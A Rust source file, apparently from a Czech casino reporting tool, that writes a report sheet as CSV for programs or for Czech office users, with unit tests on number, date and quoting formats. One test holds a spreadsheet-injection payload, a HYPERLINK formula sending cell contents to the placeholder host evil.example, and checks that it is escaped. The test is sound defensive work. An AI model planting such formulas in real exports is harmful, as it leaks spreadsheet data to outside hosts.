//! A sheet as CSV, for programs or for people.

use super::cell::{Column, Language, Sheet};
use super::csv_writer::{Audience, CsvWriter};
use crate::ReportError;

impl Sheet {
    /// CSV for programs: `,`, amounts as integer haléře, codes, times in RFC 3339 UTC.
    pub fn to_machine_csv(&self) -> Result<String, ReportError> {
        self.to_csv(Audience::Machines, |c| c.key)
    }

    /// CSV for people in a Czech office: a byte-order mark, `;` between fields, amounts in
    /// koruny with a decimal comma, days and times as `d.m.yyyy` in Prague's time, headings in
    /// `language`.
    pub fn to_people_csv(&self, language: Language) -> Result<String, ReportError> {
        self.to_csv(Audience::People, |c| language.pick(c.cs, c.en))
    }

    /// The sheet for `audience`, each column headed by `heading`.
    fn to_csv(
        &self,
        audience: Audience,
        heading: impl Fn(&Column) -> &'static str,
    ) -> Result<String, ReportError> {
        let mut writer = CsvWriter::new(audience);
        writer.heading(self.columns.iter().map(heading))?;
        for row in &self.rows {
            writer.row(row)?;
        }
        writer.into_string()
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;
    use crate::sheet::columns::{AMOUNT, BET_IDS, ROUND_ID};
    use crate::sheet::{column, Cell};
    use chrono::NaiveDate;

    fn sheet() -> Sheet {
        Sheet {
            name: "test".into(),
            columns: vec![
                column("game", "Hra", "Game"),
                column("paid_h", "Vyplaceno (Kč)", "Paid (CZK)"),
                column("rounds", "Kol", "Rounds"),
                column("gaming_day", "Herní den", "Gaming day"),
            ],
            rows: vec![
                vec![
                    Cell::Text("Ruleta; francouzská".into()),
                    Cell::Money(37_377_500),
                    Cell::Count(1_204),
                    Cell::Day(NaiveDate::from_ymd_opt(2026, 10, 5).unwrap()),
                ],
                vec![
                    Cell::Text("Black Jack".into()),
                    Cell::Money(-50),
                    Cell::Count(0),
                    Cell::Empty,
                ],
            ],
        }
    }

    #[test]
    fn people_read_koruny_with_a_decimal_comma_between_semicolons() {
        let text = sheet().to_people_csv(Language::Czech).unwrap();
        // 37 377 500 h = 373 775,00 Kč; −50 h = −0,50 Kč; a `;` inside a name is quoted.
        assert_eq!(
            text,
            "\u{feff}Hra;Vyplaceno (Kč);Kol;Herní den\r\n\
             \"Ruleta; francouzská\";373775,00;1204;05.10.2026\r\n\
             Black Jack;-0,50;0;\r\n"
        );
        let english = sheet().to_people_csv(Language::English).unwrap();
        assert!(english.starts_with("\u{feff}Game;Paid (CZK);Rounds;Gaming day\r\n"));
    }

    #[test]
    fn machines_read_haleru_and_codes_between_commas() {
        let text = sheet().to_machine_csv().unwrap();
        assert_eq!(
            text,
            "game,paid_h,rounds,gaming_day\r\n\
             Ruleta; francouzská,37377500,1204,2026-10-05\r\n\
             Black Jack,-50,0,\r\n"
        );
    }

    #[test]
    fn a_round_id_a_spreadsheet_would_run_is_text_in_both_files_and_amounts_stay_numbers() {
        let attack = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
        let sheet = Sheet {
            name: "findings".into(),
            columns: vec![ROUND_ID, BET_IDS, AMOUNT],
            rows: vec![vec![
                Cell::Text(attack.into()),
                Cell::Text("-A1-A1".into()),
                Cell::Money(-50),
            ]],
        };
        assert_eq!(
            sheet.to_machine_csv().unwrap(),
            "round_id,bet_ids,amount_h\r\n\
             \"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",\"'-A1-A1\",-50\r\n"
        );
        assert_eq!(
            sheet.to_people_csv(Language::Czech).unwrap(),
            "\u{feff}Kolo;Sázky;Částka (Kč)\r\n\
             \"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\";\"'-A1-A1\";-0,50\r\n"
        );
    }
}
